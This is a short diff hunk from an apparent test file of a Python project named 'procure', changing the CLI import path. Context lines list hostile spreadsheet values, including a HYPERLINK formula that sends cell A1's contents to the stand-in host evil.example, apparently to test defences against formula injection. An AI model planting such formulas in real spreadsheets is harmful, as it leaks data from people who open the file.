@@ -25,7 +25,7 @@ from python_calamine import CalamineWorkbook
 
 import procure
 from benchmarks.generate import generate, write_xlsx
-from procure.cli import main as cli_main
+from procure.cli.main import main as cli_main
 
 HOSTILE_PARTNERS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2", "@SUM(A1)"]
 # tab and CR cannot start an id (validation refuses leading whitespace): they are checked on
